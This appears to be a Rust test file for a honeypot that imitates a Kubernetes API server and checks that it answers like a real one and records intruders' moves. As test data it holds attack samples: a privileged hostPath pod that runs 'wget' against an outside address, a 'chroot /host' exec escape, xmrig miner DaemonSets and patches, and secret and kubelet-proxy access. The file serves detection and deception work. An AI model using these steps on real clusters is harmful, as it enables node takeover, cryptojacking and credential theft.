//! What kubectl and intruders ask, without the network.

use super::{
    SERVICE, api,
    call::{self, Call, Rights, Who},
    deed::Deed,
    release::Release,
    reply::{Body, Reply},
    seeded,
    store::Store,
};
use netsvc_daemon::http::request::Request;
use netsvc_kit::{
    Action, Host, Out,
    testing::{host, persona_with, stage},
};
use netsvc_wire::{Kind, field};
use serde_json::{Value, json};
use std::sync::Arc;

struct Cluster {
    host: Arc<Host>,
    store: Store,
    out: Out,
    _folder: tempfile::TempDir,
}

impl Cluster {
    fn new() -> Cluster {
        let folder = tempfile::tempdir().unwrap();
        let stage = stage(folder.path());
        let host = host(&stage, persona_with(&SERVICE, "k8s-01"), SERVICE.slug, &[]);
        let store = seeded::store(&host, Release::of(&host));
        Cluster { host, store, out: Out::default(), _folder: folder }
    }

    fn deed(&mut self, rights: Rights, head: &str, body: &Value) -> Deed {
        let mut request = Request::read(format!("{head}\r\n\r\n").as_bytes());
        if !body.is_null() {
            request.body = body.to_string().into_bytes();
        }
        self.answer(rights, &request)
    }

    fn answer(&mut self, rights: Rights, request: &Request) -> Deed {
        let who = Who { name: "system:anonymous".to_owned(), rights };
        let mut call = Call {
            host: &self.host,
            store: &mut self.store,
            release: Release::of(&self.host),
            request,
            who: &who,
            query: call::query(request),
            now: self.host.clock(),
            out: &mut self.out,
        };
        api::answer(&mut call)
    }

    fn ask(&mut self, rights: Rights, line: &str, body: &Value) -> (u16, Value) {
        match self.deed(rights, &format!("{line} HTTP/1.1\r\nHost: h"), body) {
            Deed::Reply(Reply { status, body: Body::Json(value) | Body::Typed(_, value) }) => (status, value),
            Deed::Reply(Reply { status, body: Body::Text(text) | Body::Packed(text) }) => {
                (status, json!(text))
            }
            Deed::Exec(target) | Deed::Forward(target) | Deed::Run(target) => (101, json!(target.words)),
            Deed::Log(log) => (200, json!(log.ready())),
            Deed::Watch(_, lines) => (200, json!(lines)),
        }
    }

    fn told(&mut self, wanted: Kind) -> Vec<String> {
        let told = self.out.take().into_iter().filter_map(|action| match action {
            Action::Record(kind, fields) | Action::Capture(kind, fields, _) if kind == wanted => {
                let names = [field::TECHNIQUE, field::PATH, field::COMMAND];
                let value = names.iter().find_map(|name| fields.iter().find(|(known, _)| known == name))?;
                Some(String::from_utf8_lossy(&value.1).into_owned())
            }
            _ => None,
        });
        told.collect()
    }
}

#[test]
fn who_may_nothing_is_told_so_in_the_words_of_the_server() {
    let mut cluster = Cluster::new();
    let (status, value) = cluster.ask(Rights::Nothing, "GET /", &Value::Null);
    assert_eq!(
        (status, value["message"].as_str().unwrap()),
        (403, "forbidden: User \"system:anonymous\" cannot get path \"/\"")
    );
    let (_, value) = cluster.ask(Rights::Nothing, "GET /api/v1/namespaces/default/pods", &Value::Null);
    assert_eq!(
        value["message"],
        "pods is forbidden: User \"system:anonymous\" cannot list resource \"pods\" in API group \"\" in the \
            namespace \"default\""
    );
    assert_eq!(value["details"], json!({ "kind": "pods" }));
    assert_eq!(cluster.ask(Rights::Nothing, "GET /version", &Value::Null).0, 200);
    assert_eq!(
        cluster.ask(Rights::Looking, "GET /api/v1/secrets", &Value::Null).0,
        403,
        "who looks sees no secrets"
    );
    assert_eq!(cluster.ask(Rights::Looking, "GET /api/v1/pods", &Value::Null).0, 200);
}

#[test]
fn everything_that_is_listed_can_be_listed() {
    let mut cluster = Cluster::new();
    let (_, groups) = cluster.ask(Rights::Everything, "GET /apis", &Value::Null);
    let groups = groups["groups"].as_array().unwrap().iter().map(|group| group["name"].as_str().unwrap());
    let roots: Vec<String> = groups.map(|name| format!("apis/{name}/v1")).collect();
    for root in ["api/v1".to_owned()].iter().chain(&roots) {
        let (status, value) = cluster.ask(Rights::Everything, &format!("GET /{root}"), &Value::Null);
        assert_eq!(status, 200, "{root}");
        for resource in value["resources"].as_array().unwrap() {
            let name = resource["name"].as_str().unwrap();
            let listed = resource["verbs"].as_array().unwrap().contains(&json!("list"));
            if name.contains('/') || !listed {
                continue;
            }
            let (status, list) =
                cluster.ask(Rights::Everything, &format!("GET /{root}/{name}"), &Value::Null);
            assert_eq!(
                (status, list["kind"].as_str().unwrap().to_owned()),
                (200, format!("{}List", resource["kind"].as_str().unwrap()))
            );
        }
    }
    let (_, pods) = cluster.ask(Rights::Everything, "GET /api/v1/pods", &Value::Null);
    assert!(12 < pods["items"].as_array().unwrap().len());
    let table = cluster.deed(
        Rights::Everything,
        "GET /api/v1/namespaces/kube-system/pods HTTP/1.1\r\nHost: h\r\nAccept: \
            application/json;as=Table;v=v1;g=meta.k8s.io",
        &Value::Null,
    );
    let Deed::Reply(Reply { body: Body::Json(table), .. }) = table else { panic!() };
    assert_eq!(table["kind"], "Table");
    assert_eq!(table["rows"][0]["cells"][1], "1/1");
}

#[test]
fn a_pod_with_the_host_in_it_is_made_entered_and_thrown_away() {
    let mut cluster = Cluster::new();
    let pod = json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": { "name": "escape" },
        "spec": {
            "hostPID": true,
            "containers": [{
                "name": "a", "image": "alpine", "command": ["sh", "-c", "wget http://192.0.2.9/x"],
                "securityContext": { "privileged": true }, "volumeMounts": [{ "name": "h", "mountPath": "/host" }],
            }],
            "volumes": [{ "name": "h", "hostPath": { "path": "/" } }],
        },
    });
    let line = "POST /api/v1/namespaces/default/pods";
    let (status, made) = cluster.ask(Rights::Everything, line, &pod);
    assert_eq!((status, made["status"]["phase"].as_str()), (201, Some("Running")));
    assert_eq!(cluster.ask(Rights::Everything, line, &pod).1["reason"], "AlreadyExists");
    let told = cluster.told(Kind::ExploitAttempt);
    assert_eq!(told, ["kubernetes pod with hostPath", "kubernetes privileged pod"]);
    let exec = "GET /api/v1/namespaces/default/pods/escape/exec?command=chroot&command=/host&command=id";
    assert_eq!(cluster.ask(Rights::Everything, exec, &Value::Null).0, 400, "an upgrade is needed");
    let deed = cluster.deed(
        Rights::Everything,
        &format!("{exec} HTTP/1.1\r\nHost: h\r\nUpgrade: websocket"),
        &Value::Null,
    );
    assert!(matches!(deed, Deed::Exec(target) if target.words == ["chroot", "/host", "id"]));
    assert!(cluster.told(Kind::ExploitAttempt).contains(&"kubernetes exec into a pod".to_owned()));
    assert_eq!(
        cluster.ask(Rights::Everything, "DELETE /api/v1/namespaces/default/pods/escape", &Value::Null).0,
        200
    );
    assert_eq!(
        cluster.ask(Rights::Everything, "GET /api/v1/namespaces/default/pods/escape", &Value::Null).0,
        404
    );
}

#[test]
fn secrets_are_read_and_that_is_known() {
    let mut cluster = Cluster::new();
    let (_, list) = cluster.ask(Rights::Everything, "GET /api/v1/secrets", &Value::Null);
    assert!(
        list["items"].as_array().unwrap().iter().any(|secret| secret["metadata"]["name"] == "db-credentials")
    );
    assert_eq!(cluster.told(Kind::FileRead), ["secrets"]);
}

#[test]
fn a_controller_makes_a_pod_and_the_quota_ends() {
    let mut cluster = Cluster::new();
    let set = json!({
        "metadata": { "name": "miner" }, "kind": "DaemonSet",
        "spec": { "template": { "metadata": { "labels": { "app": "m" } }, "spec": { "containers": [{ "nam\
            e": "m", "image": "x/xmrig" }] } } },
    });
    assert_eq!(
        cluster.ask(Rights::Everything, "POST /apis/apps/v1/namespaces/default/daemonsets", &set).0,
        201
    );
    let (_, pods) = cluster.ask(
        Rights::Everything,
        "GET /api/v1/namespaces/default/pods?labelSelector=app%3Dm",
        &Value::Null,
    );
    assert_eq!(pods["items"].as_array().unwrap().len(), 1);
    let told = cluster.told(Kind::ExploitAttempt);
    assert!(told.contains(&"kubernetes miner".to_owned()), "{told:?}");
    let mut last = 201;
    for number in 0..2000 {
        let map = json!({ "metadata": { "name": format!("m{number}") }, "data": { "a": "b".repeat(400) } });
        last = cluster.ask(Rights::Everything, "POST /api/v1/namespaces/default/configmaps", &map).0;
        cluster.out.take();
    }
    assert_eq!(last, 403);
}

#[test]
fn discovery_is_one_document_where_both_sides_know_of_it() {
    let mut cluster = Cluster::new();
    let accept = "application/json;g=apidiscovery.k8s.io;v=v2beta1;as=APIGroupDiscoveryList,application/json";
    for (path, kind) in [("/api", "APIVersions"), ("/apis", "APIGroupList")] {
        let head = format!("GET {path} HTTP/1.1\r\nHost: h\r\nAccept: {accept}");
        let Deed::Reply(Reply { body, .. }) = cluster.deed(Rights::Everything, &head, &Value::Null) else {
            panic!()
        };
        let known = Release::of(&cluster.host).number() >= 27;
        match body {
            Body::Typed(_, value) if known => {
                assert_eq!(value["apiVersion"], "apidiscovery.k8s.io/v2beta1");
                assert!(!value["items"][0]["versions"][0]["resources"].as_array().unwrap().is_empty());
            }
            Body::Json(value) if !known => assert_eq!(value["kind"], kind),
            other => panic!("{other:?}"),
        }
    }
    let text = "GET /api/v1/pods HTTP/1.1\r\nHost: h\r\nAccept: text/html";
    let Deed::Reply(reply) = cluster.deed(Rights::Everything, text, &Value::Null) else { panic!() };
    assert_eq!(reply.status, 406);
}

#[test]
fn what_somebody_may_do_is_told_to_who_may_do_it() {
    let mut cluster = Cluster::new();
    let line = "POST /apis/authorization.k8s.io/v1/selfsubjectrulesreviews";
    let spec = json!({ "kind": "SelfSubjectRulesReview", "spec": { "namespace": "default" } });
    let (status, value) = cluster.ask(Rights::Everything, line, &spec);
    assert_eq!((status, &value["status"]["resourceRules"][0]["verbs"]), (201, &json!(["*"])));
    let (status, value) = cluster.ask(Rights::Nothing, line, &spec);
    assert_eq!(status, 403);
    assert_eq!(
        value["message"],
        "selfsubjectrulesreviews.authorization.k8s.io is forbidden: User \"system:anonymous\" cannot create resource \
         \"selfsubjectrulesreviews\" in API group \"authorization.k8s.io\" at the cluster scope"
    );
    let line = "POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
    let (_, value) = cluster.ask(Rights::Everything, line, &json!({ "spec": {} }));
    assert_eq!(value["status"]["allowed"], true);
}

#[test]
fn objects_are_changed_in_each_way_that_the_server_takes() {
    let mut cluster = Cluster::new();
    let place = "/apis/apps/v1/namespaces/default/deployments/web";
    let patch = |kind: &str| format!("PATCH {place} HTTP/1.1\r\nHost: h\r\nContent-Type: {kind}");
    let ask = |cluster: &mut Cluster, kind: &str, body: &Value| match cluster.deed(
        Rights::Everything,
        &patch(kind),
        body,
    ) {
        Deed::Reply(Reply { status, body: Body::Json(value) }) => (status, value),
        _ => panic!("{kind}"),
    };
    let object = json!({ "spec": { "replicas": 1, "template": { "spec": { "containers": [
        { "name": "a", "image": "nginx:1.25.3" },
    ] } } } });
    assert_eq!(ask(&mut cluster, "application/merge-patch+json", &object).0, 404);
    assert_eq!(ask(&mut cluster, "application/apply-patch+yaml", &object).0, 201);
    let (_, pods) = cluster.ask(Rights::Everything, "GET /api/v1/namespaces/default/pods", &Value::Null);
    assert_eq!(pods["items"].as_array().unwrap().len(), 1, "what is applied has its pod");
    let more = json!({ "spec": { "template": { "spec": {
        "$setElementOrder/containers": [{ "name": "a" }, { "name": "b" }],
        "containers": [{ "name": "b", "image": "x/xmrig" }],
    } } } });
    let (status, value) = ask(&mut cluster, "application/strategic-merge-patch+json", &more);
    assert_eq!((status, value["spec"]["template"]["spec"]["containers"].as_array().unwrap().len()), (200, 2));
    assert!(cluster.told(Kind::ExploitAttempt).contains(&"kubernetes miner".to_owned()));
    let steps = json!([{ "op": "replace", "path": "/spec/replicas", "value": 3 }]);
    assert_eq!(ask(&mut cluster, "application/json-patch+json", &steps).1["spec"]["replicas"], 3);
    assert_eq!(ask(&mut cluster, "text/plain", &object).0, 415);
    let (_, scale) = cluster.ask(Rights::Everything, &format!("GET {place}/scale"), &Value::Null);
    assert_eq!((&scale["kind"], &scale["spec"]["replicas"]), (&json!("Scale"), &json!(3)));
}

#[test]
fn manifests_in_yaml_are_taken() {
    let mut cluster = Cluster::new();
    let head = "POST /api/v1/namespaces/default/pods HTTP/1.1\r\nHost: h\r\nContent-Type: application/yaml";
    let mut request = Request::read(format!("{head}\r\n\r\n").as_bytes());
    request.body =
        b"kind: Pod\nmetadata:\n  name: y\nspec:\n  hostPID: true\n  containers:\n  - name: a\n    image: \
        alpine\n"
            .to_vec();
    let Deed::Reply(reply) = cluster.answer(Rights::Everything, &request) else { panic!() };
    assert_eq!(reply.status, 201, "{reply:?}");
    let form = head.replace("application/yaml", "application/x-www-form-urlencoded");
    let Deed::Reply(reply) = cluster.deed(Rights::Everything, &form, &json!({})) else { panic!() };
    assert_eq!(reply.status, 415, "what curl sends of itself is not taken");
    assert_eq!(cluster.told(Kind::ExploitAttempt), ["kubernetes privileged pod"]);
}

#[test]
fn watches_tell_what_changes() {
    let mut cluster = Cluster::new();
    let (_, list) = cluster.ask(Rights::Everything, "GET /api/v1/namespaces/default/pods", &Value::Null);
    let since = list["metadata"]["resourceVersion"].as_str().unwrap().to_owned();
    let line = format!(
        "GET /api/v1/namespaces/default/pods?watch=1&allowWatchBookmarks=true&timeoutSeconds=90\
         &resourceVersion={since} \
         HTTP/1.1\r\nHost: h"
    );
    let Deed::Watch(mut watch, first) = cluster.deed(Rights::Everything, &line, &Value::Null) else {
        panic!()
    };
    assert_eq!(first, [] as [Value; 0]);
    let pod = json!({ "metadata": { "name": "w" }, "spec": { "containers": [{ "name": "a", "image": "alpine" }] } });
    cluster.ask(Rights::Everything, "POST /api/v1/namespaces/default/pods", &pod);
    cluster.ask(Rights::Everything, "POST /api/v1/namespaces/kube-system/pods", &pod);
    cluster.ask(Rights::Everything, "DELETE /api/v1/namespaces/default/pods/w", &Value::Null);
    let now = cluster.host.clock();
    let kinds = |lines: Vec<Value>| -> Vec<String> {
        lines.iter().map(|line| line["type"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(kinds(watch.next(&cluster.store, now)), ["ADDED", "DELETED"]);
    assert_eq!(kinds(watch.next(&cluster.store, now + 61_000_000)), ["BOOKMARK"]);
    assert!(!watch.is_over(now + 61_000_000) && watch.is_over(now + 91_000_000));
    let old = "GET /api/v1/pods?watch=1&resourceVersion=7 HTTP/1.1\r\nHost: h";
    let Deed::Watch(watch, first) = cluster.deed(Rights::Everything, old, &Value::Null) else { panic!() };
    assert_eq!((first[0]["object"]["reason"].as_str(), watch.is_over(now)), (Some("Expired"), true));
}

#[test]
fn containers_of_the_cluster_have_written_something() {
    let mut cluster = Cluster::new();
    let (_, pods) = cluster.ask(Rights::Everything, "GET /api/v1/pods", &Value::Null);
    let pods: Vec<(String, String)> = pods["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|pod| {
            let text = |key: &str| pod["metadata"][key].as_str().unwrap().to_owned();
            (text("namespace"), text("name"))
        })
        .collect();
    for (space, name) in pods {
        let line = format!("GET /api/v1/namespaces/{space}/pods/{name}/log?tailLines=1");
        let (status, text) = cluster.ask(Rights::Everything, &line, &Value::Null);
        assert_eq!(status, 200, "{name}");
        assert!(text.as_str().is_some_and(|text| text.lines().count() <= 1), "{name}: {text}");
    }
}

#[test]
fn a_container_that_joins_a_pod_is_attached_to() {
    let mut cluster = Cluster::new();
    let pod =
        json!({ "metadata": { "name": "d" }, "spec": { "containers": [{ "name": "a", "image": "nginx" }] } });
    cluster.ask(Rights::Everything, "POST /api/v1/namespaces/default/pods", &pod);
    let head = "PATCH /api/v1/namespaces/default/pods/d/ephemeralcontainers HTTP/1.1\r\nHost: h\r\nContent-Type: \
                application/strategic-merge-patch+json";
    let more = json!({ "spec": { "ephemeralContainers": [{ "name": "b", "image": "busybox", "command": ["ash"] }] } });
    let Deed::Reply(reply) = cluster.deed(Rights::Everything, head, &more) else { panic!() };
    let Body::Json(value) = &reply.body else { panic!() };
    assert_eq!(value["status"]["ephemeralContainerStatuses"][0]["name"], "b");
    for (container, status) in [("b", 101), ("a", 101), ("c", 400)] {
        let head = format!(
            "GET /api/v1/namespaces/default/pods/d/attach?container={container}&stdin=1&tty=1 HTTP/1.1\r\nHost: h\r\n\
             Upgrade: SPDY/3.1"
        );
        match cluster.deed(Rights::Everything, &head, &Value::Null) {
            Deed::Exec(target) if container == "b" => assert_eq!(target.words, ["ash"]),
            Deed::Exec(target) => assert_eq!((status, target.words), (101, vec!["sh".to_owned()])),
            Deed::Reply(reply) => assert_eq!(reply.status, status, "{container}"),
            _ => panic!("{container}"),
        }
    }
}

#[test]
fn tokens_that_were_given_out_are_known() {
    let mut cluster = Cluster::new();
    let line = "POST /api/v1/namespaces/default/serviceaccounts/default/token";
    let (status, value) =
        cluster.ask(Rights::Everything, line, &json!({ "spec": { "expirationSeconds": 600 } }));
    let token = value["status"]["token"].as_str().unwrap().to_owned();
    let now = cluster.host.clock();
    let known = |given: &str, now| seeded::bearer(&cluster.host, given, now);
    assert_eq!(status, 201);
    assert_eq!(known(&token, now).as_deref(), Some("system:serviceaccount:default:default"));
    assert_eq!(known(&token, now + 700_000_000), None, "it has ended");
    assert_eq!(known(&format!("{token}a"), now), None);
}

#[test]
fn the_kubelet_is_reached_through_the_server() {
    let mut cluster = Cluster::new();
    let (_, nodes) = cluster.ask(Rights::Everything, "GET /api/v1/nodes", &Value::Null);
    let node = nodes["items"][0]["metadata"]["name"].as_str().unwrap().to_owned();
    let line = format!("GET /api/v1/nodes/{node}/proxy/runningpods/");
    assert_eq!(cluster.ask(Rights::Everything, &line, &Value::Null).1["kind"], "PodList");
    assert_eq!(cluster.told(Kind::ExploitAttempt), ["kubernetes kubelet through the API"]);
    let (status, value) = cluster.ask(Rights::Looking, &line, &Value::Null);
    assert_eq!(status, 403);
    let message = value["message"].as_str().unwrap();
    let begin = format!(
        "nodes \"{node}\" is forbidden: User \"system:anonymous\" cannot get resource \"nodes/proxy\""
    );
    assert!(message.starts_with(&begin), "{message}");
}

#[test]
fn clients_of_python_read_pods_and_watch_them() {
    let mut cluster = Cluster::new();
    let line = "GET /api/v1/namespaces/default/pods?watch=True HTTP/1.1\r\nHost: h";
    assert!(matches!(cluster.deed(Rights::Everything, line, &Value::Null), Deed::Watch(..)));
    for (image, expected) in [
        ("nginx:1.25", "docker.io/library/nginx@sha256:"),
        ("team/app", "docker.io/team/app@sha256:"),
        ("registry.local:5000/a/b:2", "registry.local:5000/a/b@sha256:"),
    ] {
        let name = image.replace([':', '/', '.'], "-");
        let pod = json!({
            "apiVersion": "v1", "kind": "Pod", "metadata": { "name": name },
            "spec": { "containers": [{ "name": "a", "image": image }] },
        });
        let (status, value) = cluster.ask(Rights::Everything, "POST /api/v1/namespaces/default/pods", &pod);
        assert_eq!(status, 201, "{value}");
        let id = value["status"]["containerStatuses"][0]["imageID"].as_str().unwrap();
        assert!(id.starts_with(expected) && id.len() == expected.len() + 64, "{id}");
    }
}
